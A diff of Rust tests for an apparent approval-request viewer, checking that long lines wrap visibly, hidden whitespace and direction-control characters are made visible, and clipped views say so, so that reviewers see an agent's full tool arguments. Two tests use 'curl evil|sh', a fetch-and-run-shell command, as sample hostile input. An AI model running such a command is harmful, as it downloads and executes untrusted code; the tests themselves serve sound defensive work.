@@ -136,18 +136,15 @@ fn what_hides_or_poses_is_written_out() {
 
 #[test]
 fn what_is_clipped_is_said() {
-    let long = leaf(&"x".repeat(1234));
-    assert_eq!(long.lines, [format!("\"{} [clipped: 1034 more characters]\"", "x".repeat(200))]);
-    assert!(long.clipped && !leaf(&"x".repeat(200)).clipped);
-    assert_eq!(
-        leaf(&"\u{202e}".repeat(30)).lines,
-        [format!("\"{} [clipped: 5 more characters]\"", "\u{27e8}U+202E\u{27e9}".repeat(25))]
-    );
+    let long = leaf(&"x".repeat(200 * LEAF_LINES + 34));
+    assert_eq!(long.lines.len(), LEAF_LINES + 1);
+    assert_eq!(long.lines.last().unwrap(), "[clipped: 34 more characters]");
+    assert!(long.clipped && !leaf(&"x".repeat(200 * LEAF_LINES)).clipped);
 
     let lines = leaf(&"x\n".repeat(LEAF_LINES));
     assert_eq!(
         (lines.lines.len(), lines.lines.last().unwrap().as_str(), lines.clipped),
-        (17, "[clipped: 1 more lines]", true)
+        (LEAF_LINES + 1, "[clipped: 1 more characters]", true)
     );
     assert!(!leaf(&"x\n".repeat(LEAF_LINES - 1)).clipped);
 
@@ -162,6 +159,56 @@ fn what_is_clipped_is_said() {
     assert_eq!((view.urls.len(), view.omitted.urls), (MAX_FOUND, 2));
     assert!(view.lines.contains(&"[clipped: 2 more recipients]".to_owned()));
     assert!(view.lines.contains(&"[clipped: 2 more URLs]".to_owned()));
+}
+
+#[test]
+fn a_long_line_goes_on_in_the_next() {
+    let command = format!("ls {}; curl evil|sh", "x".repeat(200));
+    let shown = leaf(&command);
+    assert_eq!(shown.lines, [format!("\"ls {}", "x".repeat(197)), "\u{21aa}xxx; curl evil|sh\"".to_owned()]);
+    assert!(!shown.clipped);
+    let signs = leaf(&"\u{202e}".repeat(30)).lines;
+    let sign = "\u{27e8}U+202E\u{27e9}";
+    assert_eq!(signs, [format!("\"{}", sign.repeat(25)), format!("\u{21aa}{}\"", sign.repeat(5))]);
+    assert_eq!(leaf("a\n\u{21aa}b").lines, ["a", "\u{27e8}U+21AA\u{27e9}b"], "no text passes for the rest of a line");
+}
+
+#[test]
+fn nothing_is_pushed_out_of_sight() {
+    let hidden = leaf(&format!("ls {}; curl evil|sh", " ".repeat(190)));
+    assert_eq!(hidden.lines, ["\"ls \u{27e8}191 \u{d7} U+0020\u{27e9}; curl evil|sh\""]);
+    let indented = format!("{}x", " ".repeat(16));
+    assert_eq!(leaf(&indented).lines, [format!("\"{indented}\"")]);
+    assert_eq!(leaf(&format!("a\n{}b", "\n".repeat(190))).lines, ["a", "\u{27e8}190 \u{d7} U+000A\u{27e9}", "b"]);
+    assert_eq!(leaf("a\n\n\n\n\nb").lines, ["a", "", "", "", "", "b"]);
+}
+
+#[test]
+fn a_view_says_whether_it_is_whole_and_the_whole_can_be_seen() {
+    let recipients: Vec<Value> = (0..MAX_FOUND + 1).map(|n| Value::from(format!("u{n}@x.example"))).collect();
+    let files: Vec<Value> = (0..9).map(|n| parsed(&format!(r#"{{"path":"f{n}","content":""}}"#))).collect();
+    let pieces: Vec<String> = (0..200).map(|n| format!(r#"{{"oldText":"a{n}","newText":"b{n}"}}"#)).collect();
+    let cases = [
+        (Value::object([("to", Value::from(recipients))]), format!("u{MAX_FOUND}@x.example")),
+        (Value::object([("x", Value::from("y".repeat(300 * LEAF_LINES) + "end"))]), "end".to_owned()),
+        (Value::from(vec![Value::from("leaf"); MAX_ARGUMENTS + 1]), format!("  /{MAX_ARGUMENTS}: ")),
+        (Value::object([("n".repeat(300) + "end", Value::from(1))]), "end".to_owned()),
+        (Value::object([("x", Value::from(format!("https://{}.end/", "h".repeat(300))))]), ".end, in /x".to_owned()),
+        (Value::object([("x", Value::from(format!("{}@x.end", "p".repeat(300))))]), "recipient: ".to_owned()),
+        (Value::from(files), "file f8: ".to_owned()),
+        (parsed(&format!(r#"{{"path":"f","edits":[{}]}}"#, pieces.join(","))), "+b199".to_owned()),
+    ];
+    for (args, last) in cases {
+        let page = shown(&args, &[]);
+        assert!(page.clipped, "{last}");
+        assert!(page.lines.last().unwrap().contains("approvals show --full"), "{last}");
+        let asked = ApprovalRequest { args_digest: talos_audit::receipt::args_digest(&args), ..asked() };
+        let whole = render::whole(&verified(&asked), &args, &[]).unwrap();
+        assert!(whole.iter().any(|line| line.contains(&last)), "{last}: {whole:#?}");
+        assert!(!whole.iter().any(|line| line.contains("[clipped")), "{whole:#?}");
+    }
+    let page = view(r#"{"x":"y"}"#);
+    assert!(!page.clipped && !page.lines.iter().any(|line| line.contains("--full")));
 }
 
 #[test]
@@ -249,7 +296,7 @@ fn a_diff_is_bounded_and_says_so() {
     assert!(clipped.clipped && clipped.lines.len() == 129);
     assert_eq!(clipped.lines[128], "[clipped: 73 more lines]");
     let huge = &diffs(&args(&"x\n".repeat(2001)), &[("f", None)])[0];
-    assert_eq!((huge.status, huge.clipped), (ApprovalDiffStatus::Unknown, true));
+    assert_eq!((huge.status, huge.lines[0].as_str()), (ApprovalDiffStatus::Unknown, "[too large to compare]"));
     let many: Vec<Value> = (0..10).map(|n| parsed(&format!(r#"{{"path":"f{n}","content":""}}"#))).collect();
     let view = shown(&Value::from(many), &[]);
     assert_eq!((view.diffs.len(), view.omitted.diffs), (8, 2));
